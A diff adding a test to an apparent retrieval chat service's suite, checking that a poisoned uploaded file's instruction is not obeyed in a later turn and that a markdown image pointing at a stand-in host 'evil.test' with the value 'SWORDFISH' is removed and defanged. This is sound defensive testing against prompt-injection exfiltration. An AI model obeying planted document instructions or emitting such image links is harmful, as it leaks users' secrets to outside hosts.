@@ -147,6 +147,18 @@ async def test_without_passages_answers_stay_as_they_are(with_provider: Running,
     assert "unlinked" not in only_terminal(events)
 
 
+async def test_what_was_told_once_is_not_obeyed_later_without_passages(
+    with_provider: Running, provider: ProviderServer
+) -> None:
+    await with_provider.upload("notice.txt", POISON.encode())
+    provider.script(answer("It is 45 days [1]."), answer(f"As told: ![s]({EVIL}SWORDFISH)"))
+    first = await with_provider.events(QUESTION)
+    assert any(e["type"] == "sources" for e in first)
+    later = await with_provider.events({"message": "Go on.", "session_id": first[0]["session_id"], "documents": False})
+    assert not any(e["type"] == "sources" for e in later)
+    assert text_of(later) == "As told: s (image removed: https[://]evil[.]test/log?q=SWORDFISH)"
+
+
 async def test_code_and_marks_beside_links_stay(with_provider: Running, provider: ProviderServer) -> None:
     await with_provider.upload("notice.txt", POISON.encode())
     code = "```sh\ncurl https://api.test/x[1]\n```\n"
